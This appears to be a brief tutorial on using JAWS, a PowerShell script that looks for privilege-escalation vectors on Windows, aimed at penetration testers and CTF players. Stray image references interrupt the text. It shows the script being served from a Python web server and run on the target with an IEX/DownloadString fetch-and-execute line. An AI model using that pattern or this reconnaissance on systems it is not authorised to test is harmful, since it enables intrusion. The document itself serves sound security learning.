JAWS is PowerShell script designed to help penetration testers (and CTFers) quickly identify potential privilege escalation vectors on Windows systems. It is written using PowerShell 2.0 so 'should' run on every Windows version since Windows 7.


How to

1. Download the script

  • git clone https://github.com/411Hall/JAWS.git
  • cd JAWS
  • ls

2. Start a web server

  • python3.9 -m http.server 9999

3. On the Windows computer startpowershell

  • powershell
  • IEX(New-ObjectNet.WebClient).DownloadString('')

4. Note thistime this server is not allowing some checks due to permissions